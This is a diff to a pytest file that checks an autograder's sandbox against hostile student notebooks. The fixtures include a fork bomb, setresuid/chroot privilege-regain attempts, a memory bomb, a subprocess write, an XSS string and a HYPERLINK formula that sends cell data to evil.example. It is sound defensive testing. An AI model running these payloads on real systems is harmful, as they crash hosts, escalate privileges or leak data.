@@ -12,18 +12,22 @@ Honest but noisy notebooks must keep full marks.
 from __future__ import annotations
 
 import csv
+import html
 import io
 import os
 import re
+import subprocess
+import sys
 from pathlib import Path
 
 import nbformat
 import pytest
+from conftest import isolation_or_skip
 
 from autograder import notebooks as nbs
 from autograder.grade import grade
+from autograder.isolation import HIDDEN
 from autograder.report import CONTROL_START, FORMULA_START
-from autograder.sandbox import available
 
 SLUG = "02_momentum"
 SOURCE = nbs.read(nbs.source_path(SLUG))
@@ -54,6 +58,13 @@ def notebook(answers: dict[str, str], extra: str | None = None, at: int | None =
     return nb
 
 
+def fault(body: str) -> dict[str, str]:
+    """The reference's answers, but nesterov_step runs ``body`` when it is called."""
+    indented = "".join(f"    {line}\n" for line in body.splitlines())
+    return {**REFERENCE, "nesterov_step": f"def nesterov_step(theta, v, grad_fn, lr, alpha):\n{indented}"}
+
+
+HALF = 8.0  # momentum_step's tests: what a notebook whose nesterov_step faults keeps
 FAKE_PASS = "lambda *args, **kwargs: None"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
@@ -189,7 +200,7 @@ HOSTILE = {
         "ok",
         8,
     ),
-    "os-exit": ({**REFERENCE, "nesterov_step": "import os\nos._exit(0)"}, "crashed", 0),
+    "os-exit": ({**REFERENCE, "nesterov_step": "import os\nos._exit(0)"}, "ok", HALF),  # costs what it defines
     "kill-self": (wrong("import os\nos.kill(os.getpid(), 9)"), "tampered", 0),
     # Forging results on the grader's channel.
     "forge-results": (
@@ -227,7 +238,24 @@ HOSTILE = {
         "ok",
         BASE,
     ),
+    "regain-privileges": (  # no capability is left to become root again or to change the filesystem's root
+        wrong(
+            "import os\ndef _works(f):\n    try:\n        f()\n        return True\n    except (OSError, ValueError):\n"
+            "        return False\n_seen = _works(lambda: os.setresuid(0, 0, 0)) or _works(lambda: os.chroot('.'))",
+            RIGHT_IF_SEEN,
+        ),
+        "ok",
+        BASE,
+    ),
     "write-output": (wrong("open({out!r} + '/pwned.txt', 'w').write('x')"), "tampered", 0),
+    "unaudited-writes": (  # os.mkfifo raises no audit event: only the read-only mounts stop it
+        wrong(
+            "import os\nfor _p in ({out!r}, {home!r}, {course!r}, '/tmp', '/var/tmp', '/dev/shm'):\n"
+            "    try:\n        os.mkfifo(_p + '/pwned-fifo')\n    except OSError:\n        pass"
+        ),
+        "ok",
+        BASE,
+    ),
     "socket": (wrong("import socket\nsocket.create_connection(('127.0.0.1', 80), timeout=1)"), "tampered", 0),
     "subprocess": (wrong("import subprocess\nsubprocess.run(['touch', {out!r} + '/pwned.txt'])"), "tampered", 0),
     "fork-bomb": (wrong("import os\nwhile True:\n    os.fork()"), "tampered", 0),
@@ -239,9 +267,6 @@ HOSTILE = {
         "ok",
         1,
     ),
-    # Resources.
-    "endless-loop": (wrong("", "while True:\n    pass"), "timeout", 0),
-    "memory-bomb": (wrong("blob = bytearray(8 * 1024**3)"), "memory", 0),
     # Student text that would be a live formula in a spreadsheet, or markup in a page: it reaches the
     # reports inert (checked in test_student_text_reaches_the_reports_inert).
     "formula-and-markup": (
@@ -253,6 +278,33 @@ HOSTILE = {
         "ok",
         1,
     ),
+    # Resources and faults: each costs only the tests it stops (and what a cell that never finished defines).
+    "memory-bomb": (wrong("blob = bytearray(8 * 1024**3)"), "ok", 1),  # momentum_step is never defined
+}
+
+# Correct notebooks but for one fault: (answers, extra cell at the end or None, expected score, words in the reason).
+FAULTS = {
+    "one-function-loops": (fault("while True:\n    pass"), None, HALF, "test_nesterov_step_one_step: time limit"),
+    "one-function-exhausts-memory": (
+        fault("blob = bytearray(8 * 1024**3)"),
+        None,
+        HALF,
+        "test_nesterov_step_one_step: out of memory",
+    ),
+    "one-function-exits": (fault("import os\nos._exit(3)"), None, HALF, "test_nesterov_step_one_step: crashed"),
+    "one-function-segfaults": (  # C recursion past the stack: SIGSEGV
+        fault("import sys\nsys.setrecursionlimit(10**8)\ndef f(n):\n    return list(map(f, [n]))\nf(0)"),
+        None,
+        HALF,
+        "test_nesterov_step_one_step: crashed",
+    ),
+    "loops-while-defining": (
+        {**REFERENCE, "nesterov_step": "while True:\n    pass\n" + REFERENCE["nesterov_step"]},
+        None,
+        HALF,
+        "your cell defining nesterov_step: time limit",
+    ),
+    "late-endless-loop": (REFERENCE, "while True:\n    pass", FULL, ""),  # a scratch cell after every test
 }
 
 NOISY = {
@@ -333,9 +385,7 @@ def _other_chapter() -> str:
 
 @pytest.fixture(scope="module")
 def battery(tmp_path_factory):
-    reason = available()
-    if reason:
-        pytest.skip(f"no sandbox on this machine: {reason}")
+    isolation_or_skip()
     root = tmp_path_factory.mktemp("battery")
     subs, out = root / "submissions", root / "out"
     out.mkdir()
@@ -346,6 +396,8 @@ def battery(tmp_path_factory):
         "other": str(honest),
         "submissions": str(subs),
         "out": str(out),
+        "home": str(Path.home()),
+        "course": str(nbs.ROOT),
     }
     expected = {"honest": ("ok", FULL), "wrong": ("ok", BASE)}
     nbs.write(notebook(REFERENCE), honest)
@@ -358,12 +410,16 @@ def battery(tmp_path_factory):
     for student, (answers, extra) in NOISY.items():
         nbs.write(notebook(answers, extra), subs / student / SLUG / f"{SLUG}.ipynb")
         expected[student] = ("ok", FULL)
+    for student, (answers, extra, score, _) in FAULTS.items():
+        at = len(notebook(answers).cells) if extra else None
+        nbs.write(notebook(answers, extra, at), subs / student / SLUG / f"{SLUG}.ipynb")
+        expected[student] = ("ok", score)
     expected.update(_files(subs, out))
     rows = grade(subs, out, jobs=2, cell_timeout=5, notebook_timeout=60, progress=io.StringIO())
     return {r["student_id"]: r for r in rows}, expected, out
 
 
-CASES = ["honest", "wrong", *HOSTILE, *NOISY]
+CASES = ["honest", "wrong", *HOSTILE, *NOISY, *FAULTS]
 FILE_CASES = [
     "corrupt-json",
     "binary-garbage",
@@ -394,10 +450,44 @@ def test_each_submission_gets_its_exact_score_and_status(battery, student):
         assert row["reason"], "a status other than ok always says why"
 
 
+@pytest.mark.parametrize("student", FAULTS)
+def test_a_fault_is_named_in_the_reason_and_in_its_tests_message(battery, student):
+    rows, _, out = battery
+    row, words = rows[student], FAULTS[student][3]
+    assert words in row["reason"] if words else row["reason"] == ""
+    if words.startswith("test_"):
+        test, what = words.split(": ")
+        message = next(t["message"] for t in row["tests"] if t["test"] == test)
+        assert message.startswith(what), message
+    if words.startswith("your cell defining nesterov_step"):
+        message = next(t["message"] for t in row["tests"] if t["test"] == "test_nesterov_step_one_step")
+        assert message == "not run: your cell defining nesterov_step did not finish (time limit)"
+    if words:
+        page = (out / "feedback" / student / f"{SLUG}.html").read_text()
+        assert html.escape(words) in page, "the feedback page says what stopped"
+
+
 def test_nothing_was_written_outside_the_sandbox(battery):
     _, _, out = battery
-    assert not (out / "pwned.txt").exists()
-    assert not list(Path("/tmp").glob("pwned*"))
+    for folder in (out, Path.home(), nbs.ROOT, Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")):
+        assert not list(folder.glob("pwned*")), folder
+
+
+def test_the_runner_is_nobody_without_privileges_in_an_empty_read_only_world():
+    """What the runner's own view looks like, for whoever grades (root, or a normal user in a user namespace)."""
+    isolation_or_skip()
+    done = subprocess.run(
+        [sys.executable, "-m", "autograder.isolation", str(nbs.ROOT)], capture_output=True, text=True, timeout=60
+    )
+    assert done.returncode == 0, done.stderr
+    seen = dict(line.split(" ", 1) for line in done.stdout.splitlines())
+    assert seen["uid"] == "65534 65534 gid 65534 65534"
+    for key in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
+        assert int(seen[key], 16) == 0, key
+    assert seen["NoNewPrivs"] == "1"
+    assert seen["processes"] == "[1]"  # its own PID namespace: no other process to signal or inspect
+    assert seen["visible"] == "[]", f"the hidden folders {HIDDEN} show files"
+    assert seen["writable"] == "[]"
 
 
 def test_the_reports_are_whole_and_hide_hidden_tests(battery):
